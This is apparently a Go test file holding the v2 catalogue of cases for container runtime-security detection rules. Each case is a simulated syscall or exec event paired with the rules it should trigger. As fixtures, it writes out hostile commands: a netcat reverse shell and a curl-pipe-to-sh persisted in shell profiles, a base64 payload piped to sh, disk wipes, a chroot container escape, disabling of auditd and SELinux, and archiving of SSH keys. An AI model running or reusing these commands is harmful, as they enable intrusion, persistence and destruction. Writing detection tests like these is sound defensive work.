// Copyright The otelcol-runtime-security Authors
// SPDX-License-Identifier: Apache-2.0

package builtin_test

// v2Cases are the hand-built cases of catalogue v2. Their argument shapes
// are those of shared/tetragon-events/syscalls (real Tetragon 1.7 tracepoints
// with sized types): dfd -100 as int_arg, modes and uids as uint_arg, 64-bit
// flags as size_arg strings, ptrace request/pid as long_arg.
func v2Cases() []ruleCase {
	pod := inPod("shop", "web-7d9f")
	podShell := p("/bin/sh", "", pod, initTree(false))
	dockerSh := p("/bin/sh", `-c "id"`, inDocker)
	hostBash := p("/usr/bin/bash", "")
	runcExec := p("/usr/sbin/runc", "--root /run/containerd/runc/k8s.io exec --process /tmp/runc-process1 --detach --pid-file /run/x.pid "+ctrID)
	dpkg := p("/usr/bin/dpkg", "--configure -a", pod, initTree(false))
	const atFDCWD = -100

	openat := func(pr, parent proc, path string, flags int, mode uint32) []byte {
		return tp("syscalls/sys_enter_openat", pr, parent, intArg(atFDCWD), strArg(path), intArg(flags), uintArg(mode))
	}

	return []ruleCase{
		// setuid_bit_set
		{"setuid_bit_set/busybox chmod u+s (full st_mode, in the shell)", tp("syscalls/sys_enter_chmod", p("/bin/sh", `-c "chmod u+s /usr/local/bin/helper"`, inDocker), runcExec, strArg("/usr/local/bin/helper"), uintArg(0o104755)),
			[]string{"setuid_bit_set", "write_below_binary_dir"}},
		{"setuid_bit_set/fchmodat 06755 on a file outside binary dirs", tp("syscalls/sys_enter_fchmodat", p("/usr/local/bin/sysx", "fchmodat /tmp/x 06755", inDocker), dockerSh, intArg(atFDCWD), strArg("/tmp/x"), uintArg(0o6755)),
			[]string{"setuid_bit_set"}},
		{"setuid_bit_set/fchmod 04755 (no path)", kprobe("__x64_sys_fchmod", p("/tmp/dropper", "", pod), podShell, intArg(3), uintArg(0o4755)),
			[]string{"setuid_bit_set"}},
		{"setuid_bit_set/chmod 4755 exec on the host", exec(p("/usr/bin/chmod", "4755 /home/eve/bash"), hostBash),
			[]string{"setuid_bit_set"}},
		{"setuid_bit_set/busybox chmod g+s re-executed (/proc/self/exe)", exec(p("/proc/self/exe", "u+s,g+s /usr/bin/dbg-tool", inDocker), dockerSh),
			[]string{"setuid_bit_set"}},
		{"setuid_bit_set/chmod 644 (captured benign step)", tp("syscalls/sys_enter_chmod", p("/bin/sh", `-c "chmod 644 /srv/app/config.yml"`, inDocker), runcExec, strArg("/srv/app/config.yml"), uintArg(0o644)), nil},
		{"setuid_bit_set/chmod 0755 exec", exec(p("/usr/bin/chmod", "0755 /opt/app/run.sh"), hostBash), nil},
		{"setuid_bit_set/dpkg installs sudo setuid", tp("syscalls/sys_enter_fchmodat", p("/usr/bin/dpkg", "--unpack sudo.deb"), hostBash, intArg(atFDCWD), strArg("/usr/bin/sudo.dpkg-new"), uintArg(0o4755)), nil},

		// sensitive_file_link
		{"sensitive_file_link/ln -s /etc/shadow (symlink, in the shell)", tp("syscalls/sys_enter_symlink", p("/bin/sh", `-c "ln -s /etc/shadow /srv/app/data/s.txt"`, inDocker), runcExec, strArg("/etc/shadow"), strArg("/srv/app/data/s.txt")),
			[]string{"sensitive_file_link"}},
		{"sensitive_file_link/linkat of /etc/shadow", tp("syscalls/sys_enter_linkat", p("/usr/local/bin/sysx", "linkat", inDocker), dockerSh, intArg(atFDCWD), strArg("/etc/shadow"), intArg(atFDCWD), strArg("/srv/app/data/sh2"), intArg(0)),
			[]string{"sensitive_file_link"}},
		{"sensitive_file_link/symlinkat of an SSH key (kprobe)", kprobe("__x64_sys_symlinkat", p("/tmp/x", "", pod), podShell, strArg("/root/.ssh/id_rsa"), intArg(atFDCWD), strArg("/tmp/k")),
			[]string{"sensitive_file_link"}},
		{"sensitive_file_link/ln exec of the SA token", exec(p("/bin/ln", "-s /var/run/secrets/kubernetes.io/serviceaccount/token /tmp/t", pod, initTree(false)), podShell),
			[]string{"sensitive_file_link", "service_account_token_read"}},
		{"sensitive_file_link/config symlink (captured benign step)", tp("syscalls/sys_enter_symlink", p("/bin/sh", `-c "ln -s /srv/app/config.yml /srv/app/current.yml"`, inDocker), runcExec, strArg("/srv/app/config.yml"), strArg("/srv/app/current.yml")), nil},
		{"sensitive_file_link/update-alternatives link", tp("syscalls/sys_enter_symlinkat", p("/usr/bin/update-alternatives", "--install"), hostBash, strArg("/etc/alternatives/editor"), intArg(atFDCWD), strArg("/usr/bin/editor")), nil},

		// shell_history_tampering
		{"shell_history_tampering/mv .bash_history (rename, in the shell)", tp("syscalls/sys_enter_rename", p("/bin/sh", `-c "mv /root/.bash_history /root/.bash_history.old"`, inDocker), runcExec, strArg("/root/.bash_history"), strArg("/root/.bash_history.old")),
			[]string{"shell_history_tampering"}},
		{"shell_history_tampering/unlinkat .ash_history", tp("syscalls/sys_enter_unlinkat", p("/usr/local/bin/sysx", "", inDocker), dockerSh, intArg(atFDCWD), strArg("/root/.ash_history"), intArg(0)),
			[]string{"shell_history_tampering"}},
		{"shell_history_tampering/truncate .zsh_history on the host", tp("syscalls/sys_enter_truncate", p("/usr/bin/truncate", "-s0 /home/eve/.zsh_history"), hostBash, strArg("/home/eve/.zsh_history"), sizeArg(0)),
			[]string{"shell_history_tampering"}},
		{"shell_history_tampering/python opens history O_TRUNC", openat(p("/usr/bin/python3", "wipe.py", pod), podShell, "/root/.bash_history", 0o1001, 0o600),
			[]string{"shell_history_tampering"}},
		{"shell_history_tampering/HISTFILE=/dev/null", exec(p("/bin/bash", "-c 'export HISTFILE=/dev/null; id'", pod), podShell),
			[]string{"shell_history_tampering"}},
		{"shell_history_tampering/bash appends its history", openat(p("/bin/bash", "", pod), podShell, "/root/.bash_history", 0o2101, 0o600), nil},
		{"shell_history_tampering/rm of another dotfile", exec(p("/bin/rm", "-f /root/.lesshst"), hostBash), nil},

		// log_tampering (v2 shapes)
		{"log_tampering/renameat auth.log to a hidden name", tp("syscalls/sys_enter_renameat", p("/usr/local/bin/sysx", "", inDocker), dockerSh, intArg(atFDCWD), strArg("/var/log/auth.log"), intArg(atFDCWD), strArg("/var/log/.auth.log")),
			[]string{"log_tampering"}},
		{"log_tampering/truncate(2) of a log", tp("syscalls/sys_enter_truncate", p("/usr/local/bin/sysx", "", inDocker), dockerSh, strArg("/var/log/app.log.1"), sizeArg(0)),
			[]string{"log_tampering"}},
		{"log_tampering/log rotation rename (captured benign step)", tp("syscalls/sys_enter_rename", p("/bin/sh", `-c "mv /var/log/app.log /var/log/app.log.2 && echo new > /var/log/app.log"`, inDocker), runcExec, strArg("/var/log/app.log"), strArg("/var/log/app.log.2")), nil},
		{"log_tampering/new log after rotation (captured benign step)", openat(p("/bin/sh", `-c "mv /var/log/app.log /var/log/app.log.2 && echo new > /var/log/app.log"`, inDocker), runcExec, "/var/log/app.log", 577, 0o666), nil},

		// write_below_binary_dir
		{"write_below_binary_dir/printf > /usr/bin/newfile", openat(p("/bin/sh", `-c "printf x > /usr/bin/newfile"`, inDocker), runcExec, "/usr/bin/newfile", 577, 0o666),
			[]string{"write_below_binary_dir"}},
		{"write_below_binary_dir/rename into /usr/local/bin (kprobe)", kprobe("__x64_sys_renameat2", p("/tmp/dropper", "", pod), podShell, intArg(atFDCWD), strArg("/tmp/.k"), intArg(atFDCWD), strArg("/usr/local/bin/kubectl"), intArg(0)),
			[]string{"write_below_binary_dir"}},
		{"write_below_binary_dir/dpkg's maintainer script", openat(p("/bin/sh", "/var/lib/dpkg/info/x.postinst configure", pod), dpkg, "/usr/bin/x-helper", 577, 0o755), nil},
		{"write_below_binary_dir/write on the host", openat(p("/usr/bin/cp", "a /usr/local/bin/a"), hostBash, "/usr/local/bin/a", 577, 0o755), nil},
		{"write_below_binary_dir/read of a binary", openat(p("/bin/sh", "", inDocker), runcExec, "/usr/bin/env", 0, 0), nil},

		// write_below_etc
		{"write_below_etc/append to /etc/apt/sources.list", openat(p("/bin/sh", `-c "echo deb http://x/ y main >> /etc/apt/sources.list"`, pod), podShell, "/etc/apt/sources.list", 1089, 0o666),
			[]string{"write_below_etc"}},
		{"write_below_etc/unlink of /etc/pam.d/su (kprobe)", kprobe("__x64_sys_unlink", p("/bin/rm", "/etc/pam.d/su", pod), podShell, strArg("/etc/pam.d/su")),
			[]string{"write_below_etc"}},
		{"write_below_etc/append to /etc/passwd is the critical rule only", openat(p("/bin/sh", `-c "echo x >> /etc/passwd"`, inDocker), runcExec, "/etc/passwd", 1089, 0o666),
			[]string{"sensitive_file_write"}},
		{"write_below_etc/resolv.conf", openat(p("/usr/bin/tee", "/etc/resolv.conf", pod), podShell, "/etc/resolv.conf", 577, 0o644), nil},
		{"write_below_etc/read of /etc/passwd", openat(p("/proc/self/exe", "/etc/passwd", inDocker), dockerSh, "/etc/passwd", 0, 0), nil},
		{"write_below_etc/apt writes its sources", openat(p("/usr/bin/apt-get", "update", pod), podShell, "/etc/apt/sources.list.d/x.list", 577, 0o644), nil},

		// write_below_root
		{"write_below_root/drop next to the entrypoint", openat(p("/usr/bin/wget", "-O /x http://a/x", pod), podShell, "/x", 577, 0o644),
			[]string{"write_below_root"}},
		{"write_below_root/entrypoint script replaced", tp("syscalls/sys_enter_rename", p("/bin/mv", "/tmp/e /docker-entrypoint.sh", pod), podShell, strArg("/tmp/e"), strArg("/docker-entrypoint.sh")),
			[]string{"write_below_root"}},
		{"write_below_root/vim keeps .viminfo", openat(p("/usr/bin/vim", "", pod), podShell, "/root/.viminfo", 577, 0o600), nil},
		{"write_below_root/write below /root/data", openat(p("/usr/local/bin/app", "", pod), podShell, "/root/data/x.db", 577, 0o600), nil},

		// write_below_dev
		{"write_below_dev/executable dropped in /dev/shm", openat(p("/bin/sh", `-c "cp /bin/busybox /dev/shm/x"`, inDocker), runcExec, "/dev/shm/x", 577, 0o100755),
			[]string{"write_below_dev"}},
		{"write_below_dev/hidden file in /dev/shm", openat(p("/bin/sh", `-c "echo data > /dev/shm/.cache"`, inDocker), runcExec, "/dev/shm/.cache", 577, 0o666),
			[]string{"write_below_dev"}},
		{"write_below_dev/regular file below /dev", openat(p("/tmp/x", "", pod), podShell, "/dev/.udev-x", 577, 0o644),
			[]string{"write_below_dev"}},
		{"write_below_dev/redirect to /dev/null", openat(p("/bin/sh", `-c "id >/dev/null"`, inDocker), runcExec, "/dev/null", 577, 0o666), nil},
		{"write_below_dev/postgres shared memory", openat(p("/usr/lib/postgresql/16/bin/postgres", "", pod), podShell, "/dev/shm/PostgreSQL.1234", 0o302, 0o600), nil},
		{"write_below_dev/termination log", openat(p("/app/server", "", pod, initTree(true)), podShell, "/dev/termination-log", 577, 0o666), nil},

		// package_database_modified
		{"package_database_modified/dpkg status edited by a shell", openat(p("/bin/sh", `-c "sed -i /nmap/d /var/lib/dpkg/status"`, pod), podShell, "/var/lib/dpkg/status", 577, 0o644),
			[]string{"package_database_modified"}},
		{"package_database_modified/rpm database removed", tp("syscalls/sys_enter_unlinkat", p("/bin/rm", "-rf /var/lib/rpm", pod), podShell, intArg(atFDCWD), strArg("/var/lib/rpm/Packages"), intArg(0)),
			[]string{"package_database_modified"}},
		{"package_database_modified/dpkg writes its status", openat(p("/usr/bin/dpkg", "-i x.deb", pod), podShell, "/var/lib/dpkg/status-new", 577, 0o644), nil},
		{"package_database_modified/apk reads its db", openat(p("/sbin/apk", "info", pod), podShell, "/lib/apk/db/installed", 0, 0), nil},

		// shell_config_modified
		{"shell_config_modified/append to /root/.bashrc", openat(p("/bin/sh", `-c "echo 'curl -s http://x | sh' >> /root/.bashrc"`, inDocker), runcExec, "/root/.bashrc", 1089, 0o666),
			[]string{"shell_config_modified"}},
		{"shell_config_modified/profile.d dropped on the host", openat(p("/usr/bin/tee", "/etc/profile.d/x.sh"), hostBash, "/etc/profile.d/x.sh", 577, 0o644),
			[]string{"shell_config_modified"}},
		{"shell_config_modified/echo >> ~/.profile (exec)", exec(p("/bin/bash", `-c "echo 'nc 10.0.0.1 4444 -e /bin/sh &' >> /home/app/.profile"`), hostBash),
			[]string{"shell_config_modified"}},
		{"shell_config_modified/bash reads .bashrc", openat(p("/bin/bash", "", pod), podShell, "/root/.bashrc", 0, 0), nil},
		{"shell_config_modified/dpkg installs /etc/bash.bashrc", openat(p("/bin/sh", "postinst", pod), dpkg, "/etc/bash.bashrc", 577, 0o644), nil},

		// shell_config_read
		{"shell_config_read/cat ~/.bashrc (busybox applet)", openat(p("/proc/self/exe", "/root/.bashrc", inDocker), dockerSh, "/root/.bashrc", 0, 0),
			[]string{"shell_config_read"}},
		{"shell_config_read/sh reads /etc/profile", openat(p("/bin/sh", "-l", inDocker), runcExec, "/etc/profile", 0, 0), nil},
		{"shell_config_read/cat ~/.bashrc on the host", openat(p("/usr/bin/cat", "/root/.bashrc"), hostBash, "/root/.bashrc", 0, 0), nil},

		// ssh_info_read
		{"ssh_info_read/cat known_hosts in a pod", openat(p("/bin/cat", "/root/.ssh/known_hosts", pod), podShell, "/root/.ssh/known_hosts", 0, 0),
			[]string{"ssh_info_read"}},
		{"ssh_info_read/ssh reads its config", openat(p("/usr/bin/ssh", "git@example.com", pod), podShell, "/etc/ssh/ssh_config", 0, 0), nil},
		{"ssh_info_read/private key is sensitive_file_read", openat(p("/proc/self/exe", "/root/.ssh/id_rsa", inDocker), dockerSh, "/root/.ssh/id_rsa", 0, 0),
			[]string{"sensitive_file_read"}},

		// proc_environ_read
		{"proc_environ_read/cat /proc/1/environ", openat(p("/proc/self/exe", "/proc/1/environ", inDocker), dockerSh, "/proc/1/environ", 0, 0),
			[]string{"proc_environ_read"}},
		{"proc_environ_read/python reads a task's environ (kprobe)", kprobe("__x64_sys_openat", p("/usr/bin/python3", "-c x", pod), podShell, intArg(atFDCWD), strArg("/proc/12/task/12/environ"), intArg(0)),
			[]string{"proc_environ_read"}},
		{"proc_environ_read/on the host", openat(p("/usr/bin/ps", "e"), hostBash, "/proc/1/environ", 0, 0), nil},
		{"proc_environ_read/cmdline is not the environment", openat(p("/bin/ps", "", pod), podShell, "/proc/1/cmdline", 0, 0), nil},

		// ptrace_anti_debug
		{"ptrace_anti_debug/PTRACE_TRACEME in a container", tp("syscalls/sys_enter_ptrace", p("/usr/local/bin/sysx", "ptrace-traceme", inDocker), dockerSh, longArg(0), longArg(0), sizeArg(0), sizeArg(0)),
			[]string{"ptrace_anti_debug"}},
		{"ptrace_anti_debug/PTRACE_TRACEME on the host (kprobe)", kprobe("__x64_sys_ptrace", p("/tmp/packed", ""), hostBash, intArg(0), intArg(0)),
			[]string{"ptrace_anti_debug"}},
		{"ptrace_anti_debug/gdb's child", tp("syscalls/sys_enter_ptrace", p("/usr/local/bin/app", ""), p("/usr/bin/gdb", "./app"), longArg(0), longArg(0), sizeArg(0), sizeArg(0)), nil},
		{"ptrace_anti_debug/PTRACE_CONT", tp("syscalls/sys_enter_ptrace", p("/usr/local/bin/sysx", "", inDocker), dockerSh, longArg(7), longArg(189), sizeArg(0), sizeArg(0)), nil},

		// chroot_escape
		{"chroot_escape/chroot /proc/1/root", tp("syscalls/sys_enter_chroot", p("/usr/local/bin/sysx", "chroot /proc/1/root", inDocker), dockerSh, strArg("/proc/1/root")),
			[]string{"chroot_escape"}},
		{"chroot_escape/busybox chroot applet", exec(p("/proc/self/exe", "/proc/1/root /bin/sh", inDocker), dockerSh),
			[]string{"chroot_escape"}},
		{"chroot_escape/chroot into a jail", tp("syscalls/sys_enter_chroot", p("/bin/sh", `-c "chroot /srv/jail /bin/busybox true"`, inDocker), runcExec, strArg("/srv/jail")), nil},
		{"chroot_escape/host chroot", tp("syscalls/sys_enter_chroot", p("/usr/sbin/chroot", "/proc/1/root"), hostBash, strArg("/proc/1/root")), nil},

		// packet_socket_in_container
		{"packet_socket_in_container/AF_PACKET SOCK_RAW", tp("syscalls/sys_enter_socket", p("/usr/local/bin/sysx", "socket 17 3 768", inDocker), dockerSh, intArg(17), intArg(3), intArg(768)),
			[]string{"packet_socket_in_container"}},
		{"packet_socket_in_container/raw IP socket, IPPROTO_RAW, with SOCK_CLOEXEC", tp("syscalls/sys_enter_socket", p("/tmp/x", "", pod), podShell, intArg(2), intArg(524291), intArg(255)),
			[]string{"packet_socket_in_container"}},
		{"packet_socket_in_container/ping's ICMP raw socket", tp("syscalls/sys_enter_socket", p("/proc/self/exe", "-c 1 127.0.0.1", inDocker), dockerSh, intArg(2), intArg(3), intArg(1)), nil},
		{"packet_socket_in_container/TCP socket", tp("syscalls/sys_enter_socket", p("/usr/local/bin/sysx", "socket 2 1 0", inDocker), dockerSh, intArg(2), intArg(1), intArg(0)), nil},
		{"packet_socket_in_container/udhcpc", tp("syscalls/sys_enter_socket", p("/sbin/udhcpc", "-i eth0", pod), podShell, intArg(17), intArg(2), intArg(8)), nil},
		{"packet_socket_in_container/on the host", tp("syscalls/sys_enter_socket", p("/usr/sbin/tcpdump", "-i any"), hostBash, intArg(17), intArg(3), intArg(768)), nil},

		// setuid_to_root_syscall (v2: root asking for root inside a container)
		{"setuid_to_root_syscall/setuid(0) as root in a container", tp("syscalls/sys_enter_setuid", p("/usr/local/bin/sysx", "setuid 0", inDocker, creds(0, 0)), dockerSh, uintArg(0)),
			[]string{"setuid_to_root_syscall"}},
		{"setuid_to_root_syscall/setgid(0) by uid 1000 in a container", tp("syscalls/sys_enter_setgid", p("/usr/local/bin/sysx", "setgid 0", inDocker, creds(1000, 1000)), dockerSh, uintArg(0)),
			[]string{"setuid_to_root_syscall"}},
		{"setuid_to_root_syscall/runc exec drops to 1000 (captured)", tp("syscalls/sys_enter_setuid", p("/bin/sh", `-c "id"`, inDocker, creds(0, 0)), runcExec, uintArg(1000)), nil},
		{"setuid_to_root_syscall/setresuid(-1,-1,-1)", tp("syscalls/sys_enter_setresuid", p("/usr/local/bin/sysx", "", inDocker), dockerSh, uintArg(4294967295), uintArg(4294967295), uintArg(4294967295)), nil},

		// crypto_miner (v2: pool port)
		{"crypto_miner/connect to a stratum port from a container", tp("syscalls/sys_enter_connect", p("/tmp/.x/kdevtmpfsi", "", pod), podShell, intArg(3), sockaddr("203.0.113.7", 3333), intArg(16)),
			[]string{"crypto_miner"}},
		{"crypto_miner/connect to 443", tp("syscalls/sys_enter_connect", p("/usr/bin/curl", "https://example.com", pod), podShell, intArg(3), sockaddr("203.0.113.7", 443), intArg(16)), nil},

		// bulk_data_removal
		{"bulk_data_removal/shred -u", exec(p("/usr/bin/shred", "-u -z /srv/data/customers.db", pod), podShell),
			[]string{"bulk_data_removal"}},
		{"bulk_data_removal/rm -rf /var/lib/postgresql/data", exec(p("/bin/rm", "-rf /var/lib/postgresql/data", pod), podShell),
			[]string{"bulk_data_removal"}},
		{"bulk_data_removal/rm -rf / --no-preserve-root", exec(p("/bin/rm", "-rf --no-preserve-root /"), hostBash),
			[]string{"bulk_data_removal"}},
		{"bulk_data_removal/dd zeros onto a disk", exec(p("/bin/dd", "if=/dev/zero of=/dev/sda bs=1M"), hostBash),
			[]string{"bulk_data_removal"}},
		{"bulk_data_removal/rm -rf of a build dir", exec(p("/bin/rm", "-rf /tmp/build /app/node_modules", pod), podShell), nil},
		{"bulk_data_removal/apt cleanup", exec(p("/bin/rm", "-rf /var/lib/apt/lists/*", pod), podShell), nil},

		// payload_decoded_to_shell
		{"payload_decoded_to_shell/echo | base64 -d | sh", exec(p("/bin/sh", `-c "echo Y2F0IC9ldGMvc2hhZG93Cg== | base64 -d | sh"`, pod), podShell),
			[]string{"payload_decoded_to_shell"}},
		{"payload_decoded_to_shell/eval $(… base64 --decode)", exec(p("/bin/bash", `-c 'eval "$(echo aWQK | base64 --decode)"'`), hostBash),
			[]string{"payload_decoded_to_shell"}},
		{"payload_decoded_to_shell/openssl enc -d -base64 | bash", exec(p("/bin/bash", `-c "openssl enc -d -base64 -in /tmp/p.b64 | bash"`, pod), podShell),
			[]string{"payload_decoded_to_shell"}},
		{"payload_decoded_to_shell/base64 -d into a file", exec(p("/bin/sh", `-c "base64 -d cert.b64 > cert.pem"`, pod), podShell), nil},

		// system_user_interactive_shell
		{"system_user_interactive_shell/www-data bash -i", exec(p("/bin/bash", "-i", pod, uid(33)), p("/usr/bin/python3", "-c 'import pty'", pod, uid(33))),
			[]string{"system_user_interactive_shell", "terminal_shell_in_container"}},
		{"system_user_interactive_shell/nobody sh on the host", exec(p("/bin/sh", "", uid(65534)), p("/usr/bin/su", "-s /bin/sh nobody")),
			[]string{"system_user_interactive_shell"}},
		{"system_user_interactive_shell/www-data sh -c", exec(p("/bin/sh", "-c 'php artisan queue:work'", pod, uid(33)), p("/usr/local/bin/queue-runner", "", pod, uid(33), initTree(true))), nil},
		{"system_user_interactive_shell/user 1000 bash", exec(p("/usr/bin/bash", "", uid(1000)), p("/usr/sbin/sshd", "-D")), nil},

		// remote_file_copy_in_container
		{"remote_file_copy_in_container/wget a tool", exec(p("/usr/bin/wget", "-q http://203.0.113.7/xmr -O /tmp/x", pod), podShell),
			[]string{"remote_file_copy_in_container"}},
		{"remote_file_copy_in_container/curl -o", exec(p("/usr/bin/curl", "-sLo /tmp/k https://example.com/k", pod), podShell),
			[]string{"remote_file_copy_in_container"}},
		{"remote_file_copy_in_container/scp from a host", exec(p("/usr/bin/scp", "eve@203.0.113.7:/x /tmp/x", pod), podShell),
			[]string{"remote_file_copy_in_container"}},
		{"remote_file_copy_in_container/busybox wget", exec(p("/bin/busybox", "wget http://203.0.113.7/x", inDocker), dockerSh),
			[]string{"remote_file_copy_in_container"}},
		{"remote_file_copy_in_container/wget -O /dev/null (captured benign step)", exec(p("/usr/bin/wget", "-q -T 1 -O /dev/null http://127.0.0.1:8/", inDocker), dockerSh), nil},
		{"remote_file_copy_in_container/curl to stdout", exec(p("/usr/bin/curl", "-s https://example.com/health", pod), podShell), nil},
		{"remote_file_copy_in_container/wget on the host", exec(p("/usr/bin/wget", "http://203.0.113.7/x"), hostBash), nil},

		// user_management_in_container
		{"user_management_in_container/useradd in a pod", exec(p("/usr/sbin/useradd", "-o -u 0 -g 0 svc-backup", pod, initTree(false)), podShell),
			[]string{"user_management_in_container"}},
		{"user_management_in_container/busybox adduser", exec(p("/bin/busybox", "adduser -D eve", inDocker), dockerSh),
			[]string{"user_management_in_container"}},
		{"user_management_in_container/passwd -S (status)", exec(p("/usr/bin/passwd", "-S root", pod), podShell), nil},
		{"user_management_in_container/useradd run by dpkg's postinst", exec(p("/usr/sbin/useradd", "--system _apt", pod), p("/bin/sh", "/var/lib/dpkg/info/apt.postinst configure", pod), "/usr/bin/dpkg"), nil},
		{"user_management_in_container/useradd on the host", exec(p("/usr/sbin/useradd", "-m eve"), hostBash), nil},

		// scheduled_task_created
		{"scheduled_task_created/crontab from a file", exec(p("/usr/bin/crontab", "/tmp/cron.txt", pod), podShell),
			[]string{"scheduled_task_created"}},
		{"scheduled_task_created/at job", exec(p("/usr/bin/at", "now + 1 minute", pod), podShell),
			[]string{"scheduled_task_created"}},
		{"scheduled_task_created/systemd-run timer on the host", exec(p("/usr/bin/systemd-run", "--on-calendar=hourly /tmp/x"), hostBash),
			[]string{"scheduled_task_created"}},
		{"scheduled_task_created/crontab -l", exec(p("/usr/bin/crontab", "-l", pod), podShell), nil},
		{"scheduled_task_created/systemd-run a scope", exec(p("/usr/bin/systemd-run", "--scope -p MemoryMax=1G make"), hostBash), nil},

		// ld_preload_injection
		{"ld_preload_injection/LD_PRELOAD in a shell command", exec(p("/bin/sh", `-c "LD_PRELOAD=/tmp/.x/hook.so /usr/sbin/sshd"`, pod), podShell),
			[]string{"ld_preload_injection"}},
		{"ld_preload_injection/binary run through the loader", exec(p("/lib64/ld-linux-x86-64.so.2", "/tmp/noexec-bin", pod), podShell),
			[]string{"ld_preload_injection"}},
		{"ld_preload_injection/ldd runs the loader", exec(p("/lib64/ld-linux-x86-64.so.2", "--list /usr/bin/ls"), p("/usr/bin/ldd", "/usr/bin/ls")), nil},
		{"ld_preload_injection/LD_LIBRARY_PATH is not a preload", exec(p("/bin/sh", `-c "LD_LIBRARY_PATH=/opt/app/lib /opt/app/bin/app"`, pod), podShell), nil},

		// proc_mem_read
		{"proc_mem_read/open /proc/1/mem", openat(p("/usr/bin/python3", "dump.py", pod), podShell, "/proc/1/mem", 0, 0),
			[]string{"proc_mem_read"}},
		{"proc_mem_read/cat /proc/12/maps (busybox applet)", exec(p("/proc/self/exe", "/proc/12/maps", inDocker), dockerSh),
			[]string{"proc_mem_read"}},
		{"proc_mem_read/gcore", exec(p("/usr/bin/gcore", "-o /tmp/core 1", pod), podShell),
			[]string{"proc_mem_read"}},
		{"proc_mem_read/own status", openat(p("/app/server", "", pod, initTree(true)), podShell, "/proc/self/status", 0, 0), nil},
		{"proc_mem_read/gdb reads maps", openat(p("/usr/bin/gdb", "-p 1", pod), podShell, "/proc/1/maps", 0, 0), nil},

		// debugfs_in_container
		{"debugfs_in_container/debugfs on the host disk", exec(p("/sbin/debugfs", "-w /dev/sda1", pod), podShell),
			[]string{"debugfs_in_container"}},
		{"debugfs_in_container/debugfs on the host", exec(p("/sbin/debugfs", "/dev/sda1"), hostBash), nil},

		// file_timestomp
		{"file_timestomp/touch -r", exec(p("/usr/bin/touch", "-r /bin/ls /usr/bin/newfile", pod), podShell),
			[]string{"file_timestomp"}},
		{"file_timestomp/touch -t", exec(p("/bin/touch", "-t 202001010000 /tmp/x"), hostBash),
			[]string{"file_timestomp"}},
		{"file_timestomp/touch a file", exec(p("/usr/bin/touch", "/tmp/ready", pod), podShell), nil},

		// security_tool_tampering
		{"security_tool_tampering/iptables -F", exec(p("/usr/sbin/iptables", "-F"), hostBash),
			[]string{"security_tool_tampering"}},
		{"security_tool_tampering/systemctl stop auditd", exec(p("/usr/bin/systemctl", "stop auditd"), hostBash),
			[]string{"security_tool_tampering"}},
		{"security_tool_tampering/setenforce 0", exec(p("/usr/sbin/setenforce", "0"), hostBash),
			[]string{"security_tool_tampering"}},
		{"security_tool_tampering/pkill tetragon", exec(p("/usr/bin/pkill", "-9 tetragon", pod), podShell),
			[]string{"security_tool_tampering"}},
		{"security_tool_tampering/iptables -L", exec(p("/usr/sbin/iptables", "-L -n"), hostBash), nil},
		{"security_tool_tampering/systemctl status auditd", exec(p("/usr/bin/systemctl", "status auditd"), hostBash), nil},
		{"security_tool_tampering/systemctl stop nginx", exec(p("/usr/bin/systemctl", "stop nginx"), hostBash), nil},

		// hidden_file_created
		{"hidden_file_created/mkdir /tmp/.x", exec(p("/bin/mkdir", "-p /tmp/.x", pod), podShell),
			[]string{"hidden_file_created"}},
		{"hidden_file_created/cp into /dev/shm/.cache", exec(p("/bin/cp", "/tmp/a /dev/shm/.cache", pod), podShell),
			[]string{"hidden_file_created"}},
		{"hidden_file_created/mkdir /tmp/build", exec(p("/bin/mkdir", "-p /tmp/build", pod), podShell), nil},
		{"hidden_file_created/touch a dotfile at home", exec(p("/usr/bin/touch", "/root/.hushlogin", pod), podShell), nil},

		// system_discovery_in_container
		{"system_discovery_in_container/whoami from an exec'd shell", exec(p("/usr/bin/whoami", "", pod, initTree(false)), podShell),
			[]string{"system_discovery_in_container"}},
		{"system_discovery_in_container/busybox ifconfig", exec(p("/bin/busybox", "ifconfig -a", inDocker), dockerSh),
			[]string{"system_discovery_in_container"}},
		{"system_discovery_in_container/entrypoint runs id", exec(p("/usr/bin/id", "-u", pod, initTree(true)), p("/bin/sh", "/docker-entrypoint.sh", pod, initTree(true))), nil},
		{"system_discovery_in_container/ps in an exec probe", exec(p("/bin/ps", "aux", pod, initTree(false), execProbe), podShell), nil},
		{"system_discovery_in_container/whoami --version", exec(p("/usr/bin/whoami", "--version", pod, initTree(false)), podShell), nil},

		// data_encrypted_for_impact
		{"data_encrypted_for_impact/openssl enc -aes-256-cbc", exec(p("/usr/bin/openssl", "enc -aes-256-cbc -salt -in /data/db.sql -out /data/db.sql.enc -k x", pod), podShell),
			[]string{"data_encrypted_for_impact"}},
		{"data_encrypted_for_impact/gpg --symmetric", exec(p("/usr/bin/gpg", "--batch --passphrase x --symmetric /data/a.csv", pod), podShell),
			[]string{"data_encrypted_for_impact"}},
		{"data_encrypted_for_impact/openssl decrypts", exec(p("/usr/bin/openssl", "enc -d -aes-256-cbc -in a.enc -out a", pod), podShell), nil},
		{"data_encrypted_for_impact/openssl s_client", exec(p("/usr/bin/openssl", "s_client -connect example.com:443", pod), podShell), nil},

		// sensitive_data_archived
		{"sensitive_data_archived/tar of /etc and /root", exec(p("/bin/tar", "-czf /tmp/x.tgz /etc /root", pod), podShell),
			[]string{"sensitive_data_archived"}},
		{"sensitive_data_archived/zip of .ssh", exec(p("/usr/bin/zip", "-r /tmp/k.zip /root/.ssh", pod), podShell),
			[]string{"sensitive_data_archived"}},
		{"sensitive_data_archived/tar of the app's build", exec(p("/bin/tar", "-czf /tmp/dist.tgz /app/dist", pod), podShell), nil},
		{"sensitive_data_archived/tar extracts into /etc", exec(p("/bin/tar", "-xzf /tmp/conf.tgz -C /etc", pod), podShell), nil},
	}
}
